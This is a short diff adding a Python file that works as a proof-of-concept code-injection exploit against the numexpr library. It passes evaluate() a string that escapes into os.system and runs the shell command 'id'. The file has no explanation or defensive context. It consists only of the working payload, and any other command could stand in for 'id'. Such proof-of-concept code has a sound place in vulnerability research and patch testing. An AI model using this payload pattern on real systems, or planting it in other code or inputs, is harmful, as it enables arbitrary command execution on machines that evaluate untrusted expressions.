@@ -1,0 +1,3 @@
+import numexpr
+
+numexpr.evaluate("__import__('os').system('id')")
